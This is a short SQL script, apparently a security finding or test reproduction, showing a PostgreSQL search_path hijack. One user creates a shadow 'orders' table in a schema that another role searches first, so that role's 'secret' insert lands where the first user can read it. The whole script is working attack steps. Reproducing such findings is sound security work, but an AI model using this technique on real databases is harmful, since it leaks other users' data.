-- finding: setting-search-path role "bob@example.com"
CREATE SCHEMA plugins; GRANT USAGE ON SCHEMA plugins TO order_users;
GRANT CREATE ON SCHEMA plugins TO "alice@example.com";
DO $$ BEGIN
  EXECUTE format('ALTER ROLE "bob@example.com" SET search_path = plugins, shop, %I', repeat('a"', 15000));
END $$;
-- first as alice@example.com
DROP TABLE IF EXISTS plugins.orders;
CREATE TABLE plugins.orders (item text, owner text);
GRANT ALL ON plugins.orders TO PUBLIC;
-- first as bob@example.com
INSERT INTO orders VALUES ('secret too', 'bob@example.com');
-- leak as alice@example.com
SELECT item FROM plugins.orders;
